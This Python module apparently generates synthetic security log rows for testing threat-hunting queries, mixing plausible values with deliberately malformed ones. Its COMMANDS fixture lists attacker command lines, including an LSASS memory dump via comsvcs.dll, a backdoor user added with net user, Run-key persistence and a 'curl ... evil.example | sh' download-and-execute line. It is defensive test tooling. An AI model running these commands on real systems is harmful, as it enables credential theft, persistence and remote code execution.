"""Rows of any table, made up from the names and types of its columns: plausible ones, so that filters and joins find
something, and among them what goes wrong: nothing, text that is no number, JSON that is cut off, instants of other
ages.

`hints` reads from queries which constants a column is compared with and which members of objects are read, so that rows
get past the filters of such queries. The same seed gives the same rows.

Source: the tables' columns in the references of Azure Monitor and advanced hunting; RFC 5737, RFC 3849 and RFC 2606 for
addresses and names that belong to nobody.
"""

import json
from collections.abc import Callable, Iterable, Mapping, Sequence
from datetime import datetime, timedelta
from functools import cache
from random import Random
from re import compile as pattern
from typing import Any
from uuid import UUID

from msgspec import Struct, field

from bartizan.hunt.tree import Scalar

ODD_ONE_IN = 9  # cells of a column that hold what a query does not expect
HINT_ONE_IN = 2  # other cells of a column that hold a constant of a query, where there is one
DIFFERENT = 60  # values of a column at most, all but times: values come again, as they do in logs
DAYS = 30  # before `now`, over which the rows are spread

ODD_TEXTS = (
    "", " ", "null", "N/A", "-", "0", "-1", "1e400", "NaN", "-Infinity", "0x", "0xFFFFFFFFFFFFFFFFFF", "1.5.7.9",
    "99999999999999999999999999", "-9223372036854775808", "1,234", "true", "{", '{"a":', '{"a":1}', "[1,", "[]", "{}",
    '["a",{"b":[null,1e999]}]', '"text"', "<a><b>", "<a b='1'>é</a>", "</a>", "%", "%zz%C3", "_", "\\", "C:\\", "\\\\",
    "'", '"', "''", "`", ";--", "(", "[", "*", "(?", "a{9999}", "$1", "\n", "\t", "\0", "a\0b", "\ufeffBOM", "e\u0301",
    "İstanbul", "ß", "日本語テキスト", "👩‍👩‍👧‍👦", "\u202eexe.txt", "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59.9999999Z", "2026-02-30", "25:61:61", "-1.00:00:00", "::", "::1", "1.2.3", "256.1.1.1",
    "1.2.3.4/33", "fe80::1%eth0", "@", "a@", "http://", "https://[::1", "//x", "====", "QQ", "gA==", "/w==",
    "00000000-0000-0000-0000-000000000000", "x" * 9000,
)  # fmt: skip
ODD_DYNAMICS: tuple[Any, ...] = (
    None, "", "text", '{"cut":', "{}", 0, -1, 1.5, 1e300, 2**63, 2**64, -(2**63), True, [], {}, [[]], [None],
    [1, "a", {}], [{"Name": None}, {"Value": 3}, 5], {"a": [1, {"b": None}]}, {"": 1}, {"a b": {"c.d": '"'}},
    [[1, 2], [3]],
    {"é": "👍", "\0": "\0"}, {"Type": 5, "Name": ["x"]}, "[1,2", "2026-02-30", "NaN", {"x": {"x": {"x": {"x": []}}}},
)  # fmt: skip
ODD_NUMBERS: dict[Scalar, Sequence[Any]] = {
    "int": (0, -1, 2**31 - 1, -(2**31)),
    "long": (0, -1, 2**63 - 1, -(2**63), 2**53 + 1),
    "real": (0.0, -0.0, -1.5, float("nan"), float("inf"), float("-inf"), 1e308, -1e308, 5e-324),
}

# ------------------------------------------------------------------ what a query looks for

_TEXT = r"""@?(?:"((?:[^"\\\n]|\\.){1,80})"|'((?:[^'\\\n]|\\.){1,80})')"""
_COMPARED = pattern(
    r"\b([A-Za-z_]\w*)\)*\s*(?:[=!]=|[=!]~|!?\b(?:has|contains|startswith|endswith|in|has_any|has_all|hasprefix)(?:_cs)?)~?"
    rf"\s*\(?\s*((?:{_TEXT}\s*,?\s*)+)"
)
_CONSTANT = pattern(_TEXT)
_COUNTED = pattern(r"\b([A-Za-z_]\w*)\)*\s*(?:[=!]=|!?in\s*\(|[<>]=?)\s*((?:-?\d{1,10}\s*,?\s*)+)")
_MEMBER = pattern(r"""(?<![\d\s])(?:\.([A-Za-z_]\w*)(?!\w*\()|\[\s*["']([^"'\]]+)["']\s*\])""")


class Hints(Struct, frozen=True):
    """Constants by the column that is compared with them, and members that are read of objects."""

    texts: dict[str, list[str]] = field(default_factory=dict)
    numbers: dict[str, list[int]] = field(default_factory=dict)
    members: list[str] = []


def hints(queries: Iterable[str]) -> Hints:
    texts: dict[str, dict[str, None]] = {}
    numbers: dict[str, dict[int, None]] = {}
    members: dict[str, None] = {}
    for query in queries:
        for name, listed in (each.group(1, 2) for each in _COMPARED.finditer(query)):
            found = (one or other for one, other in _CONSTANT.findall(listed))
            texts.setdefault(name, {}).update(dict.fromkeys(each.replace("\\\\", "\\") for each in found))
        for name, listed in _COUNTED.findall(query):
            numbers.setdefault(name, {}).update(dict.fromkeys(int(each) for each in listed.replace(",", " ").split()))
        members.update(dict.fromkeys(one or other for one, other in _MEMBER.findall(query)))
    return Hints({k: [*v] for k, v in texts.items()}, {k: [*v] for k, v in numbers.items()}, [*members])


# ------------------------------------------------------------------ one value by its name

_FEW = 12  # devices, users and addresses: few, so that rows of several tables meet
USERS = (
    "alice",
    "bob",
    "carol",
    "o'brien",
    "jürgen",
    "svc_backup",
    "admin",
    "Administrator",
    "dave.smith",
    "李雷",
    "root",
    "eve",
)
DOMAINS = (
    "contoso.com",
    "fabrikam.example",
    "evil.example",
    "xn--mnchen-3ya.example",
    "a.b.c.example.org",
    "localhost",
)
PROGRAMS = ("powershell.exe", "cmd.exe", "rundll32.exe", "svchost.exe", "winword.exe", "net.exe", "wscript.exe",
            "lsass.exe", "setup.msi", "a.js", "payload.dll", "bash")  # fmt: skip
COMMANDS = (
    "powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    'cmd.exe /c "net user bob P@ss /add" & whoami',
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full",
    'reg add "HKLM\\Software\\Run" /v x /d "C:\\a b\\c.exe"',
    'net group "Domain Admins" /domain',
    "curl -k https://evil.example/a?b=c%20d | sh",
    'schtasks /create /tn "é" /tr \'x"',
)
_WORDS = ("Success", "Failure", "Add member to role", "UserLoggedIn", "Informational", "High", "Medium", "Low",
          "Windows", "Inbound", "None", "Microsoft", "Consent to application", "Allow", "Deny", "New-InboxRule", "true",
          "0", "50126")  # fmt: skip
_AGENTS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0", "curl/8.0", "python-requests/2.31", "axios/1.7")


class Maker:
    """Makes values; `now` is the instant of the queries that are to find them."""

    def __init__(self, random: Random, now: datetime, hinted: Hints) -> None:
        self.random = random
        self.now = now
        self.hinted = hinted

    def one(self, *values: Any) -> Any:
        return self.random.choice(values)

    def guid(self) -> str:
        return str(UUID(int=self.random.randrange(_FEW) * 0x1234567890ABCDEF1234567890ABCD + 7))

    def address(self) -> str:
        n = self.random.randrange(_FEW)
        return str(self.one(f"192.0.2.{n}", f"10.0.{n}.5", f"203.0.113.{n}", f"2001:db8::{n:x}", f"192.0.2.{n}:443",
                            "::1", f"::ffff:10.0.0.{n}", f"[2001:db8::{n:x}]:8080"))  # fmt: skip

    def instant(self) -> datetime:
        """Mostly of the last days, the more the nearer."""
        ago = timedelta(days=DAYS) * self.random.random() ** 3
        return self.now - ago

    def instant_text(self) -> str:
        at = self.instant()
        form = self.one(
            "%Y-%m-%dT%H:%M:%S.%fZ", "%Y-%m-%d %H:%M:%S", "%m/%d/%Y %I:%M:%S %p", "%Y-%m-%d", "%s", "%a %b %d"
        )
        return str(int(at.timestamp())) if form == "%s" else at.strftime(form)

    def digest(self, digits: int) -> str:
        return f"{self.random.randrange(1, _FEW) * 0x9E3779B97F4A7C15F39CC0605CEDC834:x}".rjust(digits, "a")[:digits]

    def sid(self) -> str:
        return str(self.one("S-1-5-18", f"S-1-5-21-1-2-3-{1000 + self.random.randrange(_FEW)}", "S-1-12-1-77"))

    def path(self) -> str:
        program, temporary = self.one(*PROGRAMS), "AppData\\Local\\Temp"
        return str(self.one(f"C:\\Windows\\System32\\{program}",
                            f"C:\\Users\\{self.one(*USERS)}\\{temporary}\\{program}",
                            f"/usr/bin/{program}", f"\\Device\\HarddiskVolume3\\{program}", program))  # fmt: skip

    def url(self) -> str:
        at = self.one(*DOMAINS)
        return str(self.one(f"https://{at}/a/b?c=d&e=%2Ff#g", f"http://user:pw@{at}:8080/{self.one(*PROGRAMS)}", at,
                            f"https://{self.address()}/x", f"ftp://{at}", f"hxxp://{at}"))  # fmt: skip

    def device(self) -> str:
        n = self.random.randrange(_FEW)
        return str(self.one(f"host{n}.contoso.com", f"HOST{n}", f"host{n}"))

    def account(self) -> str:
        user = self.one(*USERS)
        return str(self.one(user, f"CONTOSO\\{user}", f"{user}@contoso.com", "SYSTEM"))

    def xml(self) -> str:
        data = "".join(
            f'<Data Name="{each}">{self.plain(each, xml=True)}</Data>'
            for each in (
                "Image",
                "CommandLine",
                "TargetFilename",
                "User",
                "Hashes",
                "EventType",
                "PipeName",
                "ParentImage",
            )
        )
        item = '<DataItem type="System.XmlData" time="2026-01-01T00:00:00Z" sourceHealthServiceId="0">'
        return f'{item}<EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event">{data}</EventData></DataItem>'

    # -------------------------------------------------------------- objects

    def bag(self, name: str) -> Any:
        """An object or array as a column of that name holds it."""
        shape = SHAPES.get(name)
        if shape is None:
            chosen = self.random.sample(self.hinted.members, min(14, len(self.hinted.members)))
            shape = dict.fromkeys((*chosen, "Name", "Value", "Type"))
            shape = self.one(shape, shape, [shape])
        return self.shaped(shape)

    def shaped(self, shape: Any, name: str = "") -> Any:
        if isinstance(shape, list):
            return [self.shaped(shape[0], name) for _ in range(self.random.randrange(5))]
        if not isinstance(shape, dict):
            return self.leaf(name)
        # A member may be missing, or be what it should not be.
        return {
            key: self.one(*ODD_DYNAMICS) if not self.random.randrange(ODD_ONE_IN) else self.shaped(inner, key)
            for key, inner in shape.items()
            if self.random.randrange(12)
        }

    def leaf(self, name: str) -> Any:
        text = self.text(name)
        return self.one(
            text, text, text, text, json.dumps(text), json.dumps([text]), [text], self.random.randrange(70000)
        )

    # -------------------------------------------------------------- texts

    def text(self, name: str) -> str:
        """What a string column holds."""
        if not self.random.randrange(ODD_ONE_IN):
            return str(self.one(*ODD_TEXTS))
        known = self.hinted.texts.get(name)
        if known and not self.random.randrange(HINT_ONE_IN):
            return str(self.one(*known))
        return self.plain(name)

    def plain(self, name: str, *, xml: bool = False) -> str:
        """By the first rule whose pattern is in the name."""
        if name in SHAPES and not xml:
            return json.dumps(self.bag(name), ensure_ascii=False)
        return _making(name)(self)

    def number(self, name: str, type_: Scalar) -> Any:
        if not self.random.randrange(ODD_ONE_IN):
            return self.one(*ODD_NUMBERS[type_])
        known = self.hinted.numbers.get(name)
        if known and not self.random.randrange(HINT_ONE_IN):
            most = 2**31 - 1 if type_ == "int" else 2**62
            return min(self.one(*known) + self.one(0, 0, 1), most)
        small = self.one(self.random.randrange(8), self.random.randrange(1000), 443, 4688, 4625)
        large = self.random.randrange(2**30)
        return (
            self.random.uniform(-90, 180)
            if type_ == "real" and self.random.randrange(2)
            else self.one(small, small, large)
        )

    def cell(self, name: str, type_: Scalar, *, time: bool = False) -> str | None:
        """As a text that DuckDB casts; `time`: the row's own time, which is always there."""
        random = self.random
        if type_ == "string":
            return self.text(name)
        if not time and not random.randrange(ODD_ONE_IN):
            return None
        match type_:
            case "datetime":
                odd = not random.randrange(30 if time else ODD_ONE_IN)
                ages = (
                    "0001-01-01 00:00:00",
                    "9999-12-31 23:59:59.999999",
                    "1969-12-31 23:59:59",
                    "1601-01-01 00:00:00",
                )
                return str(self.one(*ages)) if odd else self.instant().replace(tzinfo=None).isoformat(" ")
            case "dynamic":
                odd = not random.randrange(ODD_ONE_IN)
                made = self.one(*ODD_DYNAMICS) if odd else self.bag(name)
                return None if made is None else json.dumps(made, ensure_ascii=False)
            case "bool":
                return str(self.one("true", "false"))
            case "guid":
                return self.guid()
            case _:
                return str(self.number(name, type_))


_PROPERTY = {"displayName": None, "oldValue": None, "newValue": None, "Name": None, "OldValue": None, "NewValue": None}
_NAMED = {"Name": None, "Value": None, "name": None, "value": None, "key": None}
_PLACE = {"city": None, "state": None, "countryOrRegion": None, "geoCoordinates": {"latitude": None, "longitude": None}}
SHAPES: Mapping[str, Any] = {
    "TargetResources": [{"id": None, "displayName": None, "type": None, "userPrincipalName": None, "ipAddress": None,
                         "groupType": None, "modifiedProperties": [_PROPERTY]}],
    "InitiatedBy": {"user": {"id": None, "displayName": None, "userPrincipalName": None, "ipAddress": None,
                             "roles": [None]},
                    "app": {"appId": None, "displayName": None, "servicePrincipalId": None, "ipAddress": None}},
    "AdditionalDetails": [_NAMED],
    "ModifiedProperties": [_PROPERTY],
    "ExtendedProperties": [_NAMED],
    "Parameters": [_NAMED],
    "OperationProperties": [_NAMED],
    "AuthenticationDetails": [{"authenticationMethod": None, "authenticationMethodDetail": None, "succeeded": None,
                               "authenticationStepDateTime": None, "authenticationStepResultDetail": None}],
    "AuthenticationProcessingDetails": [_NAMED],
    "ConditionalAccessPolicies": [{"id": None, "displayName": None, "result": None, "enforcedGrantControls": [None]}],
    "Location": _PLACE,
    "LocationDetails": _PLACE,
    "DeviceDetail": {"deviceId": None, "displayName": None, "operatingSystem": None, "browser": None, "trustType": None,
                     "isCompliant": None, "isManaged": None},
    "Status": {"errorCode": None, "additionalDetails": None, "failureReason": None},
    "Entities": [{"$id": None, "Type": None, "Name": None, "HostName": None, "Address": None, "AadUserId": None,
                  "UPNSuffix": None, "NTDomain": None, "Sid": None, "Url": None, "CommandLine": None, "Directory": None,
                  "DnsDomain": None,
                  "Location": {"CountryName": None, "City": None, "Latitude": None, "Longitude": None},
                  "FileHashes": [{"Algorithm": None, "Value": None}], "Files": [{"Name": None, "Directory": None}]}],
    "LoggedOnUsers": [{"UserName": None, "DomainName": None, "Sid": None}],
    "IPAddresses": [{"IPAddress": None, "SubnetPrefix": None, "AddressType": None}],
    "ConnectedNetworks": [{"Name": None, "Description": None, "IsConnectedToInternet": None, "Category": None}],
    "Members": [{"UPN": None, "DisplayName": None, "Role": None}],
    "Authorization": {"action": None, "scope": None, "evidence": {"role": None, "principalId": None}},
}  # fmt: skip


def _rule(of: str, make: Callable[[Maker], str]) -> tuple[Any, Callable[[Maker], str]]:
    return pattern(of), make


RULES = (
    _rule(r"(?i)sha256", lambda m: m.digest(64)),
    _rule(r"(?i)sha1|thumbprint", lambda m: m.digest(40)),
    _rule(r"(?i)md5|hash", lambda m: m.digest(32)),
    _rule(r"(?i)commandline|^process$|command", lambda m: m.one(*COMMANDS)),
    _rule(r"EventData|(?i:xml)", Maker.xml),
    _rule(r"Fields$|Propert|RawEventData|Parameters|Elements|AdditionalInfo|Claims|Details$|Entities|Event_Data|Links$|ata$",
          lambda m: json.dumps(m.bag(""), ensure_ascii=False)),
    _rule(r"(?i)useragent|browser", lambda m: m.one(*_AGENTS)),
    _rule(r"(?i)ur[il]|refer|link", Maker.url),
    _rule(r"(?i)upn|principalname|email|mail", lambda m: f"{m.one(*USERS)}@{m.one(*DOMAINS)}"),
    _rule(r"IP(?!hone)|Ip(?=[A-Z_]|$)|(?i:(?:ip|net)?address)|[cs]IP|Cidr|(?i:subnet)", Maker.address),
    _rule(r"S[iI][dD]$", Maker.sid),
    _rule(r"(?i)domain|dns", lambda m: m.one(*DOMAINS)),
    _rule(r"(?i)device|computer|machine|workstation|hostname", Maker.device),
    _rule(r"(?i)path|folder|directory|image", Maker.path),
    _rule(r"(?i)file|process", lambda m: m.one(*PROGRAMS)),
    _rule(r"(?i)guid|(?:object|tenant|app|correlation|session|user|client|resource|alert|subscription)id$|_g$",
          Maker.guid),
    _rule(r"(?i)time|date", Maker.instant_text),
    _rule(r"(?i)port|count|size|bytes|duration|code|number|id$",
          lambda m: str(m.one(0, 1, 443, 3389, 50126, m.random.randrange(9999)))),
    _rule(r"(?i)country|location|city|state", lambda m: m.one("DE", "US", "United States", "Köln", "RU")),
    _rule(r"(?i)version", lambda m: m.one("10.0.19045.1", "1.2", "v3", "11", "4.18.2211.5-rc")),
    _rule(r"(?i)message|description",
          lambda m: f"Failed password for {m.one(*USERS)} from {m.address()} port {m.random.randrange(65536)} ssh2"),
    _rule(r"(?i)account|user|name|caller|identity|actor|member", Maker.account),
)  # fmt: skip


@cache
def _making(name: str) -> Callable[[Maker], str]:
    return next((make for rule, make in RULES if rule.search(name)), lambda m: str(m.one(*_WORDS)))


def rows(
    table: str, columns: Mapping[str, Scalar], count: int, now: datetime, hinted: Hints, seed: int = 0
) -> list[list[str | None]]:
    """By column: a text, or None, for each row."""
    maker = Maker(Random(f"{seed} {table}"), now, hinted)
    made = []
    for name, type_ in columns.items():
        time = name in ("Timestamp", "TimeGenerated")
        pool = [maker.cell(name, type_, time=time) for _ in range(count if time else DIFFERENT)]
        made.append(pool if time else maker.random.choices(pool, k=count))
    return made
